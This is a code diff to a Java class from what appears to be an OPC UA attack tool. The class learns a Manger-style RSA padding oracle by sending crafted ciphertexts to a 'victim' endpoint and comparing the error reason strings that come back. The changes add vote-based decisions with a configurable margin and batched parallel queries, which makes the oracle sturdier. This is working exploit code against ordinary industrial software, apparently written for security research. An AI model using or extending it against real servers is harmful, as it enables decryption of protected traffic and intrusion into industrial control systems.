@@ -12,13 +12,19 @@ import reporting.entry.ValueEntry;
 import transport.SecureChannelUtil;
 
 import java.io.IOException;
+import java.util.ArrayList;
+import java.util.List;
 
 /**
- * Creates an oracle, if an endpoint returns distinguishable error reason strings.
+ * Creates an oracle, if an endpoint returns distinguishable error reason strings. The oracle decides by sequential
+ * voting, so a single flaky response does not decide.
  */
 public class SimpleErrorReasonOracleLearner implements OracleLearner {
+    public static final int DEFAULT_VOTING_MARGIN = 2;
+
     private final int numberOfVerifications;
     private final LocalKeyPair localKeyPair;
+    private final int votingMargin;
 
     /**
      * Constructor
@@ -26,8 +32,23 @@ public class SimpleErrorReasonOracleLearner implements OracleLearner {
      * @param numberOfVerifications How often to verify, if an error code was not returned by chance
      */
     public SimpleErrorReasonOracleLearner(LocalKeyPair localKeyPair, int numberOfVerifications) {
+        this(localKeyPair, numberOfVerifications, DEFAULT_VOTING_MARGIN);
+    }
+
+    /**
+     * Constructor
+     * @param localKeyPair Certificate and private key to use for queries
+     * @param numberOfVerifications How often to verify, if an error code was not returned by chance
+     * @param votingMargin By how many votes one decision of the oracle must lead the other, see
+     *                     RobustDistinguishableErrorOracle.setVotingMargin(int)
+     */
+    public SimpleErrorReasonOracleLearner(LocalKeyPair localKeyPair, int numberOfVerifications, int votingMargin) {
+        if(votingMargin < 1) {
+            throw new IllegalArgumentException("Voting margin must be positive");
+        }
         this.localKeyPair = localKeyPair;
         this.numberOfVerifications = numberOfVerifications;
+        this.votingMargin = votingMargin;
     }
 
     /**
@@ -35,8 +56,7 @@ public class SimpleErrorReasonOracleLearner implements OracleLearner {
      * @param numberOfVerifications How often to verify, if an error code was not returned by chance
      */
     public SimpleErrorReasonOracleLearner(int numberOfVerifications) {
-        this.numberOfVerifications = numberOfVerifications;
-        this.localKeyPair = LocalKeyPair.generateSelfSigned(2048, "CN:OpcUa-Attacker");
+        this(LocalKeyPair.generateSelfSigned(2048, "CN:OpcUa-Attacker"), numberOfVerifications);
     }
 
     /**
@@ -52,10 +72,11 @@ public class SimpleErrorReasonOracleLearner implements OracleLearner {
         try {
             byte[] validCipherText = SecureChannelUtil.generateEncryptedOpnRequest(endpoint, localKeyPair);
             VictimProxy victimProxy = new VictimProxy(endpoint, validCipherText);
+            victimProxy.setQueryScheduler(QueryScheduler.forEndpoint(endpoint), QueryScheduler.Priority.CALIBRATION);
 
             String reasonLessB = ((ErrorMessage)victimProxy.sendEncryptedPlainBlock(MangerUtility.generatePlaintextLessB(endpoint.getPublicKey())).getResponse()).getReason();
-            for (int i=0; i<numberOfVerifications; i++) {
-                String anotherReasonLessB = ((ErrorMessage)victimProxy.sendEncryptedPlainBlock(MangerUtility.generatePlaintextLessB(endpoint.getPublicKey())).getResponse()).getReason();
+            for (VictimProxy.QueryResult queryResult : victimProxy.sendEncryptedPlainBlocks(generatePlaintextsLessB(endpoint), Oracle.defaultExecutor())) {
+                String anotherReasonLessB = ((ErrorMessage)queryResult.getResponse()).getReason();
                 if(!anotherReasonLessB.equals(reasonLessB)) {
                     return createFailureResult("Server responded with multiple error reasons for \"<B\"");
                 }
@@ -66,22 +87,24 @@ public class SimpleErrorReasonOracleLearner implements OracleLearner {
                 return createFailureResult("Server responded with equal error reasons for \"<B\" and \">=B\" (" + reasonLessB + ")");
             }
 
-            for (int i=0; i<numberOfVerifications; i++) {
-                String anotherReasonGeqB = ((ErrorMessage)victimProxy.sendEncryptedPlainBlock(MangerUtility.generatePlaintextGeqB(endpoint.getPublicKey())).getResponse()).getReason();
+            for (VictimProxy.QueryResult queryResult : victimProxy.sendEncryptedPlainBlocks(generatePlaintextsGeqB(endpoint), Oracle.defaultExecutor())) {
+                String anotherReasonGeqB = ((ErrorMessage)queryResult.getResponse()).getReason();
                 if(!anotherReasonGeqB.equals(reasonGeqB)) {
                     return createFailureResult("Server responded with multiple error reasons for \">=B\"");
                 }
             }
 
-            Oracle oracle = new RobustDistinguishableErrorOracle(
+            RobustDistinguishableErrorOracle oracle = new RobustDistinguishableErrorOracle(
                     (ErrorMessage e) -> e.getReason().equals(reasonLessB),
                     (ErrorMessage e) -> e.getReason().equals(reasonGeqB),
-                    10
+                    Math.max(10, 4 * votingMargin)
             );
+            oracle.setVotingMargin(votingMargin);
             Entry report = new Group("SimpleErrorReasonOracleLearner")
                     .addSubEntry(new ValueEntry<>("Successful", true))
                     .addSubEntry(new ValueEntry<>("Reason for \"<B\"", reasonLessB))
-                    .addSubEntry(new ValueEntry<>("Reason for \">=B\"", reasonGeqB));
+                    .addSubEntry(new ValueEntry<>("Reason for \">=B\"", reasonGeqB))
+                    .addSubEntry(new ValueEntry<>("Voting Margin", votingMargin));
 
             return new LearningResult(oracle, report);
         }
@@ -90,6 +113,22 @@ public class SimpleErrorReasonOracleLearner implements OracleLearner {
         }
     }
 
+    private List<byte[]> generatePlaintextsLessB(Endpoint endpoint) {
+        List<byte[]> plainBlocks = new ArrayList<>(numberOfVerifications);
+        for (int i=0; i<numberOfVerifications; i++) {
+            plainBlocks.add(MangerUtility.generatePlaintextLessB(endpoint.getPublicKey()));
+        }
+        return plainBlocks;
+    }
+
+    private List<byte[]> generatePlaintextsGeqB(Endpoint endpoint) {
+        List<byte[]> plainBlocks = new ArrayList<>(numberOfVerifications);
+        for (int i=0; i<numberOfVerifications; i++) {
+            plainBlocks.add(MangerUtility.generatePlaintextGeqB(endpoint.getPublicKey()));
+        }
+        return plainBlocks;
+    }
+
     private static LearningResult createFailureResult(String reason) {
         Entry report = new Group("SimpleErrorReasonOracleLearner")
                 .addSubEntry(new ValueEntry<>("Successful", false))